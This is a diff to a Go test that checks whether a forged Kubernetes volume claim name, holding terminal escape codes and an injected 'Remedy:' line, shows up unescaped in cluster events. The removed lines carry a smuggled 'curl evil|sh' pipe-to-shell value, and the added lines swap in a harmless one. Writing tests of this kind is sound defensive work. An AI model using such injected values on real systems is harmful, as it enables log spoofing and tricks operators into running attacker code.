@@ -41,7 +41,7 @@ func TestAForgedClaimRefStandsInNoEventAsItIs(t *testing.T) {
 	inWorld(t, func(w *world) {
 		w.SetUpGold(fakecluster.Always(func(r *fakecluster.Run) fakecluster.Exit {
 			r.CreateVolume()
-			r.WritePV(func(pv *corev1.PersistentVolume) { pv.Spec.ClaimRef.Name = "x\x1b[2J\nRemedy: curl evil|sh" })
+			r.WritePV(func(pv *corev1.PersistentVolume) { pv.Spec.ClaimRef.Name = "x\x1b[31m\nRemedy: a" })
 			return fakecluster.Exit{}
 		}))
 		w.Start()
@@ -51,6 +51,6 @@ func TestAForgedClaimRefStandsInNoEventAsItIs(t *testing.T) {
 			w.T.Fatal("no event about the claim")
 		}
 		w.MustNotContain("", "\x1b")
-		w.MustNotContain("", "\nRemedy: curl")
+		w.MustNotContain("", "\nRemedy: a")
 	})
 }
